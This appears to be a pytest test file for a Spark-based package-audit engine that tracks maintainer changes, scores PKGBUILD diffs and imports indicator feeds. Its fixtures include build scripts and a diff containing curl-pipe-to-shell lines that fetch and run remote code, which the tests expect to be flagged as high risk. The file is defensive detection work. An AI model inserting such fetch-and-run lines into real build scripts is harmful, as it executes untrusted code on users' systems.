import json

from auditloom.engine import Engine


def test_a_life(spark, tmp_path):
    engine = Engine(spark, str(tmp_path / "store"))
    assert engine.status().first().asDict() == {"n_snapshots": 0, "n_packages": 0, "n_findings": 0, "n_indicators": 0}
    snap = lambda rows: spark.createDataFrame(rows, "name string, version string, maintainer string")
    assert engine.refresh_corpus(snap([("lamp", "1.0-1", "ann"), ("desk", "2.0-1", "Bo")]), 100).count() == 0
    found = engine.refresh_corpus(snap([("Lamp ", "1.1-1", "eve"), ("desk", "2.0-1", "bo"), (None, "1", "x")]), 200)
    assert sorted((r.rule_id, r.subject) for r in found.collect()) == [("R071", "lamp"), ("R090", "lamp"), ("R126", "eve")]
    scored = engine.analyze_text("lamp", "pkgver=1.0\nbuild() {\n}\n", "pkgver=1.1\nbuild() {\n  curl https://x.example/a | bash\n}\n")
    row = scored.first()
    assert "R001" in row.rules and row.band in ("High", "Critical")
    for _ in range(2):
        engine.record(scored, "2025-01-02")
    assert engine.history("lamp").count() == len(row.rules.split(","))
    diffs = spark.createDataFrame([("lamp", "--- a/PKGBUILD\n+++ b/PKGBUILD\n@@ -1 +1,3 @@\n+build() {\n+  curl https://x | sh\n+}\n"), ("desk", "x")], "package string, diff_text string")
    installed = spark.createDataFrame([("lamp", "1.0-1"), ("desk", "2.0-1")], "name string, version string")
    assert [r.package for r in engine.review(installed, diffs).collect()] == ["lamp"]
    assert engine.inspect(diffs, "desk").count() == 1
    (tmp_path / "feed.jsonl").write_text(json.dumps({"type": "package", "value": "lamp", "confidence": "high"}))
    assert engine.import_indicators(str(tmp_path / "feed.jsonl"), "me").count() == 1
    assert [tuple(r) for r in engine.pivot("eve").collect()] == [("lamp", "maintainer")]
    assert [r.name for r in engine.packages().collect()] == ["desk", "lamp"]
    engine.refresh_corpus(snap([("desk", "2.0-1", "bo")]), 300)
    assert [r.name for r in engine.prune().collect()] == ["lamp"] and engine.history().count() == 0
    assert engine.status().first().n_snapshots == 3


def test_watch(spark, tmp_path):
    engine = Engine(spark, str(tmp_path / "store"))
    for at, owner in ((86400, "ann"), (2 * 86400, "eve")):
        spark.createDataFrame([("lamp", "1", owner, at)], "name string, version string, maintainer string, snapshot_time long").coalesce(1).write.mode("append").parquet(str(tmp_path / "in"))
    engine.watch(str(tmp_path / "in"))
    assert {r.rule_id for r in engine.history().collect()} == {"R071", "R090"}
    engine.watch(str(tmp_path / "in"))
    assert engine.history().count() == 2


def test_counts_of_earlier_snapshots_are_kept(spark, tmp_path):
    """Each refresh reads two snapshots and finds what a sweep over all of them does."""
    from auditloom.operators import corpus, sweep

    engine = Engine(spark, str(tmp_path / "store"))
    rows, found = [], []
    for at in range(1, 7):
        n = 3 * at if at < 6 else 60
        own = [(f"p{i}", "1", "ann") for i in range(n)]
        rows += [(at, 1, *r) for r in own]
        found += [(r.snapshot_no, r.rule_id, r.subject, r.n) for r in engine.refresh_corpus(spark.createDataFrame(own, "name string, version string, maintainer string"), at, adoption=50).collect()]
    raw = spark.createDataFrame(rows, "snapshot_no long, delivery_no int, name string, current_version string, current_maintainer string")
    whole = [(r.snapshot_no, r.rule_id, r.subject, r.n) for r in sweep.corpus_findings(corpus.held_snapshots(raw), adoption=50).collect()]
    assert sorted(found) == sorted(whole) and {"R125", "R108"} <= {r[1] for r in found}
